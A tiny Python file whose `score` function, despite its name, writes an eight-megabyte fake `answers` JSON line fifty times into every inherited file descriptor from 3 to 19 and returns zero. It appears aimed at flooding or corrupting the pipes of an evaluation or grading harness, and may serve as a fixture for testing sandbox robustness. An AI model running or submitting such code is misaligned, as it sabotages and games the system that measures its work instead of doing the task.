"""Writes lines of eight megabytes into every pipe that it finds."""

import os

LINE = b'{"answers":[' + b"[]," * 2_600_000 + b"[]]}\n"


def score(roll):
    for pipe in range(3, 20):
        try:
            for _ in range(50):
                left = LINE
                while left:
                    left = left[os.write(pipe, left) :]
        except OSError:
            pass
    return 0
